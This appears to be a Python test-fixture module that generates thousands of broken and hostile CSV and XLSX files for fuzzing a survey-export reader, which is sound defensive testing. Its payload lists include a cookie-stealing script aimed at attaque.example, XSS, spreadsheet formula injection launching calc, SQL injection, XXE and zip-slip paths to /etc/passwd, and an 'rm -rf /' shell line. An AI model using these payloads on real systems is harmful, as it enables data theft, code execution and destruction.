"""Hostile and broken files by the thousand: each one small, and the same for the same number.

`hostile_files` makes them from a few good files by what goes wrong with files: cut, re-encoded, shifted, stuffed with
formulas, scripts and path names, or made so on purpose. `with_cells` puts the same texts in any column of a good file.
"""

import codecs
import io
import random
import zipfile
from collections.abc import Callable, Iterator

from tests.survey.reading.workbooks import cell, packed, parts, sheet, wrapped
from tests.survey.world import export

Rows = list[list[str]]
Way = Callable[[random.Random], bytes]

SCRIPT = "<script>fetch('https://attaque.example/'+document.cookie)</script>"
TEXTS = (
    SCRIPT,
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "${alert(1)}`{{7*7}}",
    "![suivi](https://attaque.example/p.png)",
    '=HYPERLINK("https://attaque.example";"oui")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "../../etc/passwd",
    "C:\\Windows\\system32",
    "/dev/zero",
    "%s%n{0}{__class__}",
    "'; DROP TABLE editions; --",
    "\u202egnirts",
    "\u200b\u200d\ufeff",
    "e\u0301" * 40,
    "Z" + "\u0301" * 400,
    "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    "\x1b[31mrouge\x07\x08",
    "ligne\r\nligne\u2028ligne\x0b\x0c\x85",
    "N/A",
    "nan",
    "NULL",
    "-inf",
    "1e999",
    "9" * 400,
    "0001-01-01",
    "99/99/9999 99:99",
    " ",
    "x" * 5_000,
    "\U0010ffff\ufffe\uffff",
    "[a][b]]] [[",
    "/".join("abcdefgh"),
    ";;;,,,\t\t|||",
    '""""',
    '{"a": [1, 2]}',
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
)

ENCODINGS = (
    *("utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-7"),
    *("cp1252", "iso-8859-15", "mac-roman", "cp037", "cp500", "cp850", "shift_jis", "gb18030", "koi8-r"),
)
HEADS = (
    b"PK\x03\x04",
    b"\xd0\xcf\x11\xe0",
    b"%PDF",
    b"\x1f\x8b",
    b"\xff\xfe",
    b"\xfe\xff",
    b"\xef\xbb\xbf",
    b"",
    b"\x00",
)


def hostile_files(count: int, seed: int = 4) -> Iterator[tuple[str, bytes]]:
    """Yield so many files, each with the name of what is wrong with it; every way comes in its turn."""
    ways = list(WAYS.items())
    for number in range(count):
        name, way = ways[number % len(ways)]
        yield f"{name}-{number}", way(random.Random(f"{seed}-{number}"))


def with_cells(texts: tuple[str, ...] = TEXTS, rows: int = 12) -> Iterator[tuple[str, bytes]]:
    """Yield good files, as CSV and as XLSX, whose every cell of answers is in turn each of these texts."""
    headings, *lines = good_rows()
    for rank, text in enumerate(texts):
        stuffed = [[text] * len(headings) for _ in lines[:rows]]
        yield f"cells-{rank}", delimited([headings, *stuffed])
        yield f"cells-xlsx-{rank}", book([headings, *stuffed])
        yield f"headings-{rank}", delimited([[text] * len(headings), *lines])


def good_rows() -> Rows:
    """Return headings and rows of a good export."""
    return [line[1:-1].split('";"') for line in export().split("\r\n") if line]


def delimited(rows: Rows, separator: str = ";", end: str = "\r\n") -> bytes:
    """Return rows as a good writer of CSV writes them."""
    return end.join(separator.join('"' + text.replace('"', '""') + '"' for text in row) for row in [*rows, []]).encode(
        "utf-8", "surrogatepass"
    )


def book(rows: Rows) -> bytes:
    """Return rows as a workbook, without the characters that XML cannot hold."""
    return packed(parts({"Réponses": sheet_of(rows)}))


def sheet_of(rows: Rows) -> str:
    """Return the XML of a sheet of these rows."""
    kept = [["".join(letter for letter in text if _writable(letter)) for text in row] for row in rows]
    lines = (
        f'<row r="{line}">{"".join(cell(f"{_letters(n)}{line}", text) for n, text in enumerate(row) if text)}</row>'
        for line, row in enumerate(kept, start=1)
    )
    return wrapped("".join(lines))


def _writable(letter: str) -> bool:
    return letter in "\t\n\r" or " " <= letter <= "\ud7ff" or "\ue000" <= letter <= "\ufffd" or letter > "\uffff"


def _letters(position: int) -> str:
    letters = ""
    position += 1
    while position:
        position, rest = divmod(position - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def _truncated(dice: random.Random) -> bytes:
    content = _good(dice)
    return content[: dice.randrange(len(content))]


def _flipped(dice: random.Random) -> bytes:
    content = bytearray(_good(dice))
    for _ in range(dice.choice((1, 3, 30))):
        content[dice.randrange(len(content))] = dice.randrange(256)
    return bytes(content)


def _spliced(dice: random.Random) -> bytes:
    content = _good(dice)
    start = dice.randrange(len(content))
    return content[:start] + dice.randbytes(dice.randrange(1, 200)) + content[start + dice.randrange(200) :]


def _reencoded(dice: random.Random) -> bytes:
    encoding = dice.choice(ENCODINGS)
    content = export(dice.choice(";,\t|")).encode(encoding, "replace")
    if dice.random() < 0.3:
        content = dice.choice((codecs.BOM_UTF8, codecs.BOM_UTF16_LE, codecs.BOM_UTF16_BE)) + content
    return content


def _twice(dice: random.Random) -> bytes:
    return export().encode("utf-8").decode(dice.choice(("cp1252", "mac-roman", "latin-1")), "replace").encode()


def _noise(dice: random.Random) -> bytes:
    return dice.choice(HEADS) + dice.randbytes(dice.randrange(3_000))


def _letters_only(dice: random.Random) -> bytes:
    alphabet = dice.choice((';,\n"', "a;\n", '"\r\n', "aé;\x00\n", " \t\n;", "\u200b;\n", "ÿþ;\n"))
    return "".join(dice.choices(alphabet, k=dice.randrange(400))).encode()


def _nothing(dice: random.Random) -> bytes:
    return dice.choice(
        (b"", b" ", b"\n\n", b"\xef\xbb\xbf", b"\xff\xfe", b"\xff\xfe\x00\x00", b";;;\n;;;", b'""', b"\x00" * 50)
    )


def _shifted(dice: random.Random) -> bytes:
    rows = good_rows()
    row = dice.choice(rows)
    if dice.random() < 0.5:
        row.insert(dice.randrange(len(row)), dice.choice(("", "x")))
    else:
        del row[dice.randrange(len(row))]
    return delimited(rows)


def _headings(dice: random.Random) -> bytes:
    rows = good_rows()
    for position in range(len(rows[0])):
        if dice.random() < 0.3:
            rows[0][position] = dice.choice((dice.choice(rows[0]), "", *TEXTS))
    return dice.choice((delimited, book))(rows)


def _cells(dice: random.Random) -> bytes:
    rows = good_rows()
    for row in rows[1:]:
        for position in range(len(row)):
            if dice.random() < 0.2:
                row[position] = dice.choice(TEXTS)
    return dice.choice((delimited, book))(rows)


def _rows_mixed(dice: random.Random) -> bytes:
    rows = good_rows()
    dice.shuffle(rows)
    return dice.choice((delimited, book))(rows * dice.choice((1, 3)))


def _columns_mixed(dice: random.Random) -> bytes:
    order = dice.choices(range(len(good_rows()[0])), k=dice.randrange(1, 40))
    return dice.choice((delimited, book))([[row[position] for position in order] for row in good_rows()])


def _quotes(dice: random.Random) -> bytes:
    text = list(export(dice.choice(";,\t|")))
    for _ in range(dice.choice((1, 2, 9))):
        text.insert(dice.randrange(len(text)), dice.choice(('"', '""', "'", "\r", "\n", "\x00", "\\")))
    return "".join(text).encode()


def _wide(dice: random.Random) -> bytes:
    separator = dice.choice(";,\t|")
    return (separator * dice.choice((399, 400, 10_000)) + "\n" + "a" + separator * dice.randrange(500)).encode()


def _huge_cell(dice: random.Random) -> bytes:
    text = dice.choice(("x", "é", '""', "\n", "👍")) * dice.choice((131_071, 131_073, 200_000))
    return dice.choice((f'a;b\n1;"{text}"\n', f'"{text}";b\n1;2\n', f'a;b\n1;"{text}')).encode()


def _long_line(dice: random.Random) -> bytes:
    return dice.choice((b"x", b"x y ", b"\xc3\xa9;", b"a,b;")) * 100_000


def _surrogates(dice: random.Random) -> bytes:
    text = "Nom;Avis\nPau;a\ud800b\n"
    return dice.choice((text.encode("utf-8", "surrogatepass"), text.encode("utf-16-le", "surrogatepass")))


def _declared(dice: random.Random) -> bytes:
    separator = dice.choice((";", ",", "|", "x", '"', "é"))
    end = dice.choice(("\n", "\r\n"))
    return f"sep={separator}{end}{export(dice.choice(';,'))}".encode()


def _disguised(dice: random.Random) -> bytes:
    return dice.choice(
        (
            b"<html><table><tr><td>Nom</td></tr></table></html>",
            b'{"reponses": [{"nom": "Pau"}]}',
            b"<?xml version='1.0'?><a><b/></a>",
            b"{\\rtf1}",
            b"%PDF-1.7\n1 0 obj",
            b"$FL2@(#) SPSS DATA FILE",
            b"SQLite format 3\x00",
            b"#!/bin/sh\nrm -rf /\n",
            b"From: a@b.fr\nSubject: x\n\nBonjour,\n",
        )
    )


def _damaged_part(dice: random.Random) -> bytes:
    members = {name: xml.encode() for name, xml in parts({"F": sheet(good_rows())}).items()}
    name = dice.choice(list(members))
    xml = bytearray(members[name])
    what = dice.randrange(5)
    if what == 0:
        del members[name]
    elif what == 1:
        members[name] = bytes(xml[: dice.randrange(len(xml))])
    elif what == 2:
        for _ in range(4):
            xml[dice.randrange(len(xml))] = dice.randrange(256)
        members[name] = bytes(xml)
    elif what == 3:
        members[name] = dice.randbytes(300)
    else:
        old, new = dice.choice(REPLACED)
        members[name] = bytes(xml).replace(old, new)
    return packed(members)


REPLACED = (
    (b'r="A', b'r="XFE'),
    (b'r="B1"', b'r="B0"'),
    (b'<row r="', b'<row r="-'),
    (b'<row r="2"', b'<row r="99999999999999999999"'),
    (b"inlineStr", b"s"),
    (b"inlineStr", b"inconnu"),
    (b"<is><t>", b"<v>"),
    (b"<t>", b"<t>&#0;"),
    (b"<t>", b"<t>&inconnue;"),
    (b"<t>", b"<t><![CDATA[</row>]]>"),
    (b"<sheetData>", b"<sheetData><sheetData>"),
    (b"<sheetData>", b"<!-- <sheetData> --><sheetData>"),
    (b'encoding="UTF-8"', b'encoding="cp037"'),
    (b'encoding="UTF-8"', b'encoding="inconnu"'),
    (b"worksheets/sheet1.xml", b"../../../../etc/passwd"),
    (b"worksheets/sheet1.xml", b"/xl/worksheets/sheet1.xml"),
    (b"worksheets/sheet1.xml", b"https://attaque.example/x.xml"),
    (b'name="F"', b'name="&lt;script&gt;\xe2\x80\xae../../x"'),
    (b"<worksheet ", b"<worksheet xmlns:a='urn:a' a:b='c' "),
    (b"</worksheet>", b"<extLst><ext uri='x'/></extLst></worksheet>"),
)


def _archives(dice: random.Random) -> bytes:
    inner = packed(parts({"F": sheet(good_rows())}))
    members: dict[str, bytes] = {"../../etc/passwd": b"x", "a" * 300: b"", "C:\\x\\..\\y": b"x"}
    choice = dice.randrange(5)
    if choice == 0:
        return packed({"un.xlsx": inner, **members})
    if choice == 1:
        return packed({f"{number}/": b"" for number in range(dice.choice((499, 501, 3_000)))})
    if choice == 2:
        # Two archives one after the other, and bytes around them.
        return inner + dice.randbytes(50) + inner
    if choice == 3:
        written = io.BytesIO()
        with zipfile.ZipFile(written, "w", dice.choice((zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA))) as archive:
            for name, xml in parts({"F": sheet(good_rows())}).items():
                archive.writestr(name, xml)
        return written.getvalue()
    layers = inner
    for depth in range(6):
        layers = packed({f"{depth}.zip": layers})
    return layers


def _sparse(dice: random.Random) -> bytes:
    reference = dice.choice(("XFD1048576", "OJ1", "OK1", "A1048576", "ZZZ9", "A0", "a1", "1A", "É1", ""))
    place = reference.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZaÉ") or "1"
    rows = f'<row r="1">{cell("A1", "a")}</row><row r="{place}">{cell(reference, "x")}</row>'
    return packed(parts({"F": wrapped(rows)}))


def _good(dice: random.Random) -> bytes:
    rows = good_rows()
    return (
        delimited(rows, dice.choice(";,\t|"), dice.choice(("\r\n", "\n", "\r"))) if dice.random() < 0.6 else book(rows)
    )


WAYS: dict[str, Way] = {
    "truncated": _truncated,
    "flipped": _flipped,
    "spliced": _spliced,
    "reencoded": _reencoded,
    "encoded-twice": _twice,
    "noise": _noise,
    "letters": _letters_only,
    "nothing": _nothing,
    "shifted": _shifted,
    "headings": _headings,
    "cells": _cells,
    "rows-mixed": _rows_mixed,
    "columns-mixed": _columns_mixed,
    "quotes": _quotes,
    "wide": _wide,
    "huge-cell": _huge_cell,
    "long-line": _long_line,
    "surrogates": _surrogates,
    "declared": _declared,
    "disguised": _disguised,
    "damaged-part": _damaged_part,
    "archives": _archives,
    "sparse": _sparse,
}
